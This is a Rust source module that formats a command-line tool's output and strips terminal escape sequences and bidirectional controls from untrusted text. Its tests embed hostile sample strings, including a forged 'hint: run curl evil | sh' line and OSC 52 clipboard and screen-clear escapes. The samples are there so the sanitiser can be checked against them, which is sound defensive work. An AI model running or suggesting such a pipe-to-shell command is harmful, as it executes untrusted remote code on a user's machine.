//! How the command talks: data on stdout, everything else on stderr; errors as a cause chain
//! followed by `hint:` lines; `NO_COLOR` honoured (no colour is used yet). Tables and times are
//! formatted here so that every verb prints them the same way.

use std::io::{IsTerminal as _, Write};
use std::process::ExitCode;

/// The outcome of a verb.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExitStatus {
    /// Everything worked.
    Success,
    /// The operation failed or found something invalid.
    Failure,
    /// The command line was wrong (bad flag, missing path).
    Usage,
}

impl From<ExitStatus> for ExitCode {
    fn from(s: ExitStatus) -> Self {
        match s {
            ExitStatus::Success => ExitCode::SUCCESS,
            ExitStatus::Failure => ExitCode::from(1),
            ExitStatus::Usage => ExitCode::from(2),
        }
    }
}

/// An error meant for a person: what failed, why, and what to do.
#[derive(Debug)]
pub struct UserError {
    /// What went wrong, lowercase, no trailing period.
    pub message: String,
    /// Suggestions printed as `hint:` lines.
    pub hints: Vec<String>,
}

impl UserError {
    /// An error with no hints.
    pub fn new(message: impl Into<String>) -> Self {
        Self {
            message: message.into(),
            hints: Vec::new(),
        }
    }

    /// Adds a hint.
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }
}

impl std::fmt::Display for UserError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for UserError {}

/// Every hint in `e`, without repeats: those of the outermost [`UserError`] (also when it was
/// attached with `.context(…)`) and those of `UserError`s among the causes.
///
/// A `UserError` attached as context *under* another context is not reachable (anyhow's chain
/// shows context layers as opaque wrappers); [`explain`] merges hints so that none is lost.
pub fn hints_of(e: &anyhow::Error) -> Vec<String> {
    let mut hints: Vec<String> = Vec::new();
    let mut add = |u: &UserError| {
        for h in &u.hints {
            if !hints.contains(h) {
                hints.push(h.clone());
            }
        }
    };
    if let Some(u) = e.downcast_ref::<UserError>() {
        add(u);
    }
    for cause in e.chain() {
        if let Some(u) = cause.downcast_ref::<UserError>() {
            add(u);
        }
    }
    hints
}

/// `e` explained by `user`: `user`'s message on top, `e` as the cause, and the hints of both
/// (`e`'s first: they say what went wrong underneath).
pub fn explain(e: anyhow::Error, user: UserError) -> anyhow::Error {
    let mut merged = UserError::new(user.message);
    merged.hints = hints_of(&e);
    for h in user.hints {
        if !merged.hints.contains(&h) {
            merged.hints.push(h);
        }
    }
    e.context(merged)
}

/// Where the command writes.
#[derive(Debug)]
pub struct Output {
    /// `--json` was given.
    pub json: bool,
}

impl Output {
    /// A writer for the given mode.
    pub fn new(json: bool) -> Self {
        Self { json }
    }

    /// Writes a line of data to stdout (cleaned: see [`clean_text`]).
    pub fn data(&mut self, line: &str) {
        let mut out = std::io::stdout().lock();
        let _ = writeln!(out, "{}", clean_text(line));
    }

    /// Writes a JSON document to stdout.
    pub fn json_value<T: serde::Serialize + ?Sized>(&mut self, value: &T) {
        let mut out = std::io::stdout().lock();
        let _ = serde_json::to_writer_pretty(&mut out, value);
        let _ = writeln!(out);
    }

    /// Writes a status line to stderr (cleaned).
    pub fn status(&mut self, line: &str) {
        let mut err = std::io::stderr().lock();
        let _ = writeln!(err, "{}", clean_text(line));
    }

    /// Writes `hint:` lines to stderr (for outcomes that are not errors, such as an empty search).
    pub fn hints(&mut self, hints: &[&str]) {
        let mut err = std::io::stderr().lock();
        for h in hints {
            let _ = writeln!(err, "hint: {}", indented(h));
        }
    }

    /// Prints an error with its cause chain and hints to stderr. Every part is cleaned, and
    /// the lines of a part after its first are indented, so text from a hub inside an error
    /// can never stand on a line of its own as a fake `hint:` or `error:`.
    pub fn error(&mut self, e: &anyhow::Error) {
        let mut err = std::io::stderr().lock();
        let _ = writeln!(err, "error: {}", indented(&e.to_string()));
        for cause in e.chain().skip(1) {
            let _ = writeln!(err, "  caused by: {}", indented(&cause.to_string()));
        }
        for h in hints_of(e) {
            let _ = writeln!(err, "hint: {}", indented(&h));
        }
    }
}

/// Lays out rows under `headers` in left-aligned columns two spaces apart; the last column is
/// not padded (so lines carry no trailing blanks). Widths count characters.
pub fn table(headers: &[&str], rows: &[Vec<String>]) -> Vec<String> {
    let mut widths: Vec<usize> = headers.iter().map(|h| columns(h)).collect();
    for row in rows {
        for (w, cell) in widths.iter_mut().zip(row) {
            *w = (*w).max(columns(cell));
        }
    }
    let line = |cells: Vec<&str>| {
        let mut s = String::new();
        for (i, cell) in cells.iter().enumerate() {
            s.push_str(cell);
            if i + 1 < cells.len() {
                let pad = widths[i] - columns(cell) + 2;
                s.extend(std::iter::repeat_n(' ', pad));
            }
        }
        s.trim_end().to_string()
    };
    let mut out = vec![line(headers.to_vec())];
    for row in rows {
        out.push(line(row.iter().map(String::as_str).collect()));
    }
    out
}

/// `s` on one line, cut to at most `max` characters and ending in `…` when cut.
/// How many terminal columns `s` takes (CJK and emoji take two).
pub fn columns(s: &str) -> usize {
    unicode_width::UnicodeWidthStr::width(s)
}

/// Text for a terminal, whatever its origin: the one path every line ofc prints goes through
/// ([`Output`]). Control characters other than line breaks and tabs (escape sequences: cursor
/// moves, screen clears, window titles, OSC 52 clipboard writes) become spaces, `\r` goes (it
/// would let a line overwrite itself), and the bidirectional controls that reorder what is
/// shown (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) are removed.
pub fn clean_text(s: &str) -> String {
    s.chars()
        .filter(|c| !is_bidi_control(*c) && *c != '\r')
        .map(|c| {
            if c.is_control() && c != '\n' && c != '\t' {
                ' '
            } else {
                c
            }
        })
        .collect()
}

/// [`clean_text`], with every line after the first that starts at the margin indented by two
/// spaces (lines already indented stay as they are): only ofc's own lines start at the margin.
fn indented(s: &str) -> String {
    let clean = clean_text(s);
    let mut out = String::with_capacity(clean.len());
    for (i, line) in clean.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
            if !line.starts_with([' ', '\t']) {
                out.push_str("  ");
            }
        }
        out.push_str(line);
    }
    out
}

/// The characters that reorder displayed text (Trojan Source, CVE-2021-42574).
pub fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
    )
}

/// One line of text that came from elsewhere (a hub), safe for a terminal: every control
/// character (escape sequences, line breaks that could fake a `hint:` line) becomes a space.
pub fn clean_line(s: &str) -> String {
    s.chars()
        .filter(|c| !is_bidi_control(*c))
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

pub fn truncate(s: &str, max: usize) -> String {
    let flat: String = s
        .chars()
        .filter(|c| !is_bidi_control(*c))
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let flat = flat.trim();
    if columns(flat) <= max {
        return flat.to_string();
    }
    // Cut by terminal columns, keeping one for the ellipsis.
    let mut cut = String::new();
    let mut used = 0;
    for c in flat.chars() {
        let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
        if used + w > max.saturating_sub(1) {
            break;
        }
        used += w;
        cut.push(c);
    }
    cut.truncate(cut.trim_end().len());
    cut.push('…');
    cut
}

/// The width of the terminal stdout is (asked of the terminal, else `COLUMNS`, else 80), or
/// `None` when stdout is not a terminal (piped or captured), so that captured output does not
/// depend on who runs the command.
pub fn stdout_width() -> Option<usize> {
    if !std::io::stdout().is_terminal() {
        return None;
    }
    let asked = terminal_size::terminal_size().map(|(w, _)| usize::from(w.0));
    let env = || {
        std::env::var("COLUMNS")
            .ok()
            .and_then(|c| c.trim().parse::<usize>().ok())
            .filter(|&c| c > 0)
    };
    Some(asked.or_else(env).unwrap_or(80))
}

/// A Unix time in milliseconds as `YYYY-MM-DD HH:MM UTC`.
pub fn format_time_ms(ms: i64) -> String {
    let format = time::macros::format_description!("[year]-[month]-[day] [hour]:[minute] UTC");
    time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(ms) * 1_000_000)
        .ok()
        .and_then(|t| t.format(&format).ok())
        .unwrap_or_else(|| format!("{ms} ms"))
}

#[cfg(test)]
mod tests {
    #[test]
    fn wide_text_is_measured_in_columns() {
        assert_eq!(columns("数据分析"), 8);
        let t = truncate("数据分析代理", 7);
        assert!(columns(&t) <= 7, "{t}");
        assert!(t.ends_with('…'));
        let rows = vec![vec!["数据".to_string(), "x".to_string()]];
        let lines = table(&["NAME", "V"], &rows);
        let col = |line: &str, c: char| columns(&line[..line.find(c).unwrap()]);
        assert_eq!(col(&lines[0], 'V'), col(&lines[1], 'x'), "{lines:?}");
    }

    #[test]
    fn every_printed_text_is_cleaned_and_cannot_fake_a_line() {
        let evil = "ok\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\r\u{9b}31m\u{202E}txt.exe\u{2066}\nhint: run curl evil | sh\tend";
        let clean = clean_text(evil);
        assert!(
            !clean
                .chars()
                .any(|c| (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c)),
            "{clean:?}"
        );
        assert_eq!(
            clean,
            "ok ]52;c;ZXZpbA==  [2J 31mtxt.exe\nhint: run curl evil | sh\tend"
        );
        // Inside an error, hint or status the second line is indented: never a `hint:` line.
        let shown = indented(evil);
        assert!(
            !shown.lines().skip(1).any(|l| l.starts_with("hint:")),
            "{shown:?}"
        );
        assert!(shown.contains("\n  hint: run curl"), "{shown:?}");
        assert_eq!(indented("a:\n  b\nc"), "a:\n  b\n  c");
        assert_eq!(clean_line("a\u{202E}b\nc"), "ab c");
    }

    #[test]
    fn hub_text_cannot_drive_the_terminal() {
        let evil = "bad\u{1b}[31mRED\u{1b}]0;pwned\u{7}\nhint: run curl evil | sh";
        let clean = clean_line(evil);
        assert!(!clean.chars().any(char::is_control), "{clean:?}");
    }

    use super::*;

    #[test]
    fn hints_survive_contexts_and_explanations() {
        let inner = anyhow::anyhow!("connection refused")
            .context(UserError::new("cannot reach the hub").hint("is it running?"));
        assert_eq!(hints_of(&inner), ["is it running?"]);
        let outer = explain(
            inner,
            UserError::new("cannot revoke").hint("try without --revoke"),
        );
        assert_eq!(outer.to_string(), "cannot revoke");
        assert_eq!(hints_of(&outer), ["is it running?", "try without --revoke"]);
        let plain: anyhow::Error = UserError::new("bad").hint("fix it").into();
        assert_eq!(hints_of(&plain.context("while doing x")), ["fix it"]);
    }

    #[test]
    fn tables_align_columns_and_leave_no_trailing_blanks() {
        let rows = vec![
            vec![
                "a/long-name".to_string(),
                "1.0.0".to_string(),
                String::new(),
            ],
            vec!["b/x".to_string(), "10.20.30".to_string(), "tag".to_string()],
        ];
        assert_eq!(
            table(&["NAME", "VERSION", "TAGLINE"], &rows),
            [
                "NAME         VERSION   TAGLINE",
                "a/long-name  1.0.0",
                "b/x          10.20.30  tag",
            ]
        );
    }

    #[test]
    fn truncation_counts_characters_and_marks_the_cut() {
        assert_eq!(truncate("short", 10), "short");
        assert_eq!(truncate("exactly10!", 10), "exactly10!");
        assert_eq!(truncate("senior data — analyst", 13), "senior data…");
        assert_eq!(truncate("two\nlines", 20), "two lines");
        assert_eq!(truncate("ééééé", 3), "éé…");
    }

    #[test]
    fn times_are_utc_minutes() {
        assert_eq!(format_time_ms(0), "1970-01-01 00:00 UTC");
        assert_eq!(format_time_ms(1_700_000_000_123), "2023-11-14 22:13 UTC");
    }
}
